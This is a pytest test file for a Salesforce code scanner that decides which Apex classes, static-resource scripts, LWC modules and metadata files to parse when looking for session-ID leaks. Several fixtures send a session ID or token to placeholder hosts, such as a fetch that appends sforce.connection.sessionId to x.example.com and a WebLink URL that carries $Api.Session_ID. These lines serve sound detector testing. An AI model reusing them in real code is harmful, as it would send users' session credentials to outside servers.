"""Files a scan does not parse.

Test classes are not shipped behaviour: unless `--include-tests`, an `@IsTest` class with
nothing in it that could be a session source is neither parsed nor lowered. One that holds a
source is lowered as usual, so the summary still counts the sources found in tests. Static
scripts and metadata that name no session, token or suppression are not parsed either."""

from __future__ import annotations

from pathlib import Path

import pytest

from apexlint.engine import ScanOptions, scan
from apexlint.ir import FileKind
from apexlint.lower import LoweringJob, is_quiet_script_or_metadata, is_quiet_test_class, lower_job
from apexlint.read.decode import ReadLimits
from tests.fuzz.inputs import SFDX_SOURCE, write_sfdx_package


@pytest.mark.parametrize("text", [
    "@IsTest\nprivate class FooTest {\n  @IsTest static void t() { System.assert(true); }\n}\n",
    "/** tests */\n@isTest(SeeAllData=true)\npublic with sharing class BarTest { }\n",
    "// header\n@SuppressWarnings('PMD.ApexDoc')\n@IsTest\nprivate class BazTest { }\n",
])
def test_a_test_class_without_sources_is_quiet(text: str) -> None:
    assert is_quiet_test_class(text)


@pytest.mark.parametrize("text", [
    "public class Foo {\n  @IsTest static void t() { }\n}\n",  # test methods in a shipped class
    "@IsTest\nprivate class FooTest {\n  static void t() { String s = UserInfo.getSessionId(); }\n}\n",
    "@IsTest\nprivate class FooTest {\n  static void t() { Blob b = Page.X.getContent(); }\n}\n",
    "@IsTest\nprivate class FooTest {\n  static String body = '{\"session_id\": \"x\"}';\n}\n",
    "/* @IsTest */\npublic class NotATest { }\n",
])
def test_a_shipped_class_or_a_test_class_with_a_source_is_lowered(text: str) -> None:
    assert not is_quiet_test_class(text)


def _lower(text: str, skip_tests: bool) -> int:
    job = LoweringJob("classes/FooTest.cls", FileKind.APEX_CLASS, text.encode(), "", skip_tests=skip_tests)
    lowered = lower_job(job, ReadLimits())
    return sum(len(c.methods) for f in lowered.files for c in f.classes)


def test_quiet_test_class_is_lowered_only_when_tests_are_analysed() -> None:
    text = "@IsTest\nprivate class FooTest {\n  @IsTest static void t() { System.assert(true); }\n}\n"
    assert _lower(text, skip_tests=True) == 0
    assert _lower(text, skip_tests=False) == 1
    a = LoweringJob("c/F.cls", FileKind.APEX_CLASS, text.encode(), "", skip_tests=True).cache_key("v")
    b = LoweringJob("c/F.cls", FileKind.APEX_CLASS, text.encode(), "", skip_tests=False).cache_key("v")
    assert a != b, "the cache must not serve a skipped test class to a scan that includes tests"


def test_sources_in_test_classes_are_still_counted(tmp_path: Path) -> None:
    write_sfdx_package(tmp_path, {
        f"{SFDX_SOURCE}/classes/QuietTest.cls":
            b"@IsTest\nprivate class QuietTest {\n  @IsTest static void t() { }\n}\n",
        f"{SFDX_SOURCE}/classes/LoudTest.cls": b"@IsTest\nprivate class LoudTest {\n  @IsTest static void t() {\n"
                                               b"    System.debug(UserInfo.getSessionId());\n  }\n}\n"})
    result = scan(ScanOptions(paths=(tmp_path,), root=tmp_path, jobs=1))
    assert result.findings == ()
    assert result.test_sources == 1
    with_tests = scan(ScanOptions(paths=(tmp_path,), root=tmp_path, jobs=1, include_tests=True))
    assert [f.rule_id for f in with_tests.findings] == ["SID003"]


def _scan_job(rel: str, kind: FileKind, text: str, metadata_type: str | None = None) -> LoweringJob:
    return LoweringJob(rel, kind, text.encode(), "", metadata_type, lazy=True)


def test_a_script_library_with_no_session_is_not_parsed() -> None:
    quiet = _scan_job("staticresources/lib.js", FileKind.JAVASCRIPT, "function add(a, b) { return a + b; }\n")
    loud = _scan_job("staticresources/app.js", FileKind.JAVASCRIPT,
                     "fetch('https://x.example.com/?s=' + sforce.connection.sessionId);\n")
    assert is_quiet_script_or_metadata(quiet, quiet.data.decode())
    assert not is_quiet_script_or_metadata(loud, loud.data.decode())
    [ir] = lower_job(loud, ReadLimits()).files
    assert ir.sources and ir.url_uses


def test_a_resource_script_that_may_send_a_page_s_global_is_parsed_though_it_names_no_session() -> None:
    """AF-4: `fetch(url + token)` in a resource folder's script sends what the loading page keeps
    in `token`; a script elsewhere (no page loads it by that name), or that declares its own
    `token`, still says nothing."""
    code = "function share(id) { $.ajax({url: 'https://s.example.org/' + id, headers: {T: token}}); }\n"
    loud = _scan_job("staticresources/kit/js/share.js", FileKind.JAVASCRIPT, code)
    elsewhere = _scan_job("scripts/share.js", FileKind.JAVASCRIPT, code)
    own = _scan_job("staticresources/kit/js/own.js", FileKind.JAVASCRIPT, "var token = 'x';\n" + code)
    assert not is_quiet_script_or_metadata(loud, code)
    assert is_quiet_script_or_metadata(elsewhere, code)
    assert is_quiet_script_or_metadata(own, own.data.decode())
    [ir] = lower_job(loud, ReadLimits()).files
    assert [u.sources for u in ir.url_uses] == [("client:global:token",)]


def test_components_that_hand_values_to_modules_and_modules_that_may_send_them_are_parsed() -> None:
    """A component passing what Apex returns to `c/api`'s functions, the module exporting them
    (it may send), and one that passes on what it is given to another module are parsed; a
    component that only logs, with its `export default class`, still is not."""
    caller = "import getSid from '@salesforce/apex/Ctl.getSid';\nimport { send } from 'c/api';\n" \
             "export default class C { async go() { send(await getSid()); } }\n"
    module = "export function send(token) { return fetch('https://p.example.com', {headers: {A: token}}); }\n"
    relay = "import { send } from 'c/api';\nexport const forward = (token) => { console.log('x'); send(token); };\n"
    plain = "import { LightningElement } from 'lwc';\nexport default class P extends LightningElement {\n" \
            "    connectedCallback() { console.log('ready'); }\n}\n"
    for rel, code, quiet in (("lwc/caller/caller.js", caller, False), ("lwc/api/api.js", module, False),
                             ("lwc/relay/relay.js", relay, False), ("lwc/plain/plain.js", plain, True),
                             ("lwc/api/helpers.js", module, True)):  # not the module `c/api` names
        assert is_quiet_script_or_metadata(_scan_job(rel, FileKind.JAVASCRIPT, code), code) is quiet, rel


def test_quiet_metadata_keeps_its_name_and_type_and_credentials_are_always_read() -> None:
    field = _scan_job("objects/Acct__c/fields/Tier__c.field-meta.xml", FileKind.METADATA,
                      "<CustomField><fullName>Tier__c</fullName></CustomField>", "CustomField")
    [ir] = lower_job(field, ReadLimits()).files
    assert [(m.type, m.full_name) for m in ir.metadata] == [("CustomField", "Tier__c")]
    credential = _scan_job("namedCredentials/Org.namedCredential-meta.xml", FileKind.METADATA,
                           "<NamedCredential><endpoint>https://x.my.salesforce.com</endpoint></NamedCredential>",
                           "NamedCredential")
    assert not is_quiet_script_or_metadata(credential, credential.data.decode())
    [ir] = lower_job(credential, ReadLimits()).files
    assert ir.metadata[0].endpoint == "https://x.my.salesforce.com"
    link = _scan_job("objects/Account/webLinks/Go.webLink-meta.xml", FileKind.METADATA,
                     "<WebLink><url>https://x.example.com/?sid={!$Api.Session_ID}</url></WebLink>", "WebLink")
    assert not is_quiet_script_or_metadata(link, link.data.decode())


@pytest.mark.parametrize(("kind", "rel"), [
    (FileKind.APEX_CLASS, "src/classes/Vendor.cls"),
    (FileKind.VISUALFORCE_PAGE, "src/pages/vendor__Setup.page"),
])
def test_hidden_managed_source_is_a_note_not_a_parse_error(kind: FileKind, rel: str) -> None:
    # An org retrieve gives '(hidden)' for an installed managed package's Apex and Visualforce.
    lowered = lower_job(LoweringJob(rel, kind, b"(hidden)", ""), ReadLimits())
    assert lowered.files == ()
    assert [(n.code, n.level.value) for n in lowered.notifications] == [("hidden-source", "note")]


def test_many_hidden_sources_are_one_note(tmp_path: Path) -> None:
    classes = tmp_path / "src" / "classes"
    classes.mkdir(parents=True)
    for name in ("VendorA", "VendorB", "VendorC"):
        (classes / f"{name}.cls").write_bytes(b"(hidden)")
    (classes / "Own.cls").write_text("public class Own {}", encoding="utf-8")
    result = scan(ScanOptions(paths=(tmp_path,), root=tmp_path, jobs=1))
    (note,) = [n for n in result.notifications if n.code == "hidden-source"]
    assert note.path == "src/classes/VendorA.cls" and "3 files hold the hidden source" in note.message
